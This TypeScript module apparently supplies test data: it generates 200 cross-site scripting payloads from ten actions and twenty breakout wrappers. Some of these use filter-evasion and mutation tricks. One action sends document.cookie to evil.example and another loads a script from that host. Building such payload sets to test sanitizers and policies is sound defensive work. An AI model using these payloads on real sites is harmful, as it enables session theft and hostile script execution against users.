/** What an attacker makes a page run: each of these shows a dialog, or asks for something that the policy forbids. */
const ACTIONS = [
  'alert(1)',
  'confirm(1)',
  'prompt(1)',
  'alert`1`',
  "top['al'+'ert'](1)",
  '(()=>{throw onerror=alert,1})()',
  "fetch('https://evil.example/'+document.cookie)",
  "document.body.append(Object.assign(document.createElement('script'),{src:'//evil.example/x.js'}))",
  "location='javascript:alert(1)'",
  "setTimeout('alert(1)')",
];

/** Places from which texts break out when somebody puts them together without care. */
const WRAPPINGS: readonly ((action: string) => string)[] = [
  (action) => `<script>${action}</script>`,
  (action) => `"><script>${action}</script>`,
  (action) => `'><img src=x onerror="${action}">`,
  (action) => `<img/src=x/onerror=${action}>`,
  (action) => `<svg onload="${action}">`,
  (action) => `<svg><animate onbegin="${action}" attributeName=x dur=1s>`,
  (action) => `<details open ontoggle="${action}">x</details>`,
  (action) => `<iframe srcdoc="<script>${action}</script>"></iframe>`,
  (action) => `<a href="javascript:${action}">x</a>`,
  (action) => `<body onpageshow="${action}">`,
  (action) => `</title></style></textarea></script><script>${action}</script>`,
  (action) => `<!--><script>${action}</script>-->`,
  (action) => `{{constructor.constructor("${action}")()}}`,
  (action) => `\${${action}}`,
  (action) => `javascript:${action}//`,
  (action) => `" autofocus onfocus="${action}" x="`,
  (action) => `<math><mtext></table><mglyph><style><img src=x onerror="${action}">`,
  (action) => `<input type=image src=x onerror="${action}">`,
  (action) => `<object data="javascript:${action}"></object>`,
  (action) => `<link rel=stylesheet href="//evil.example/${encodeURIComponent(action)}">`,
];

/** 200 texts, always the same. */
export const XSS_PAYLOADS: readonly string[] = WRAPPINGS.flatMap((wrap) => ACTIONS.map(wrap));
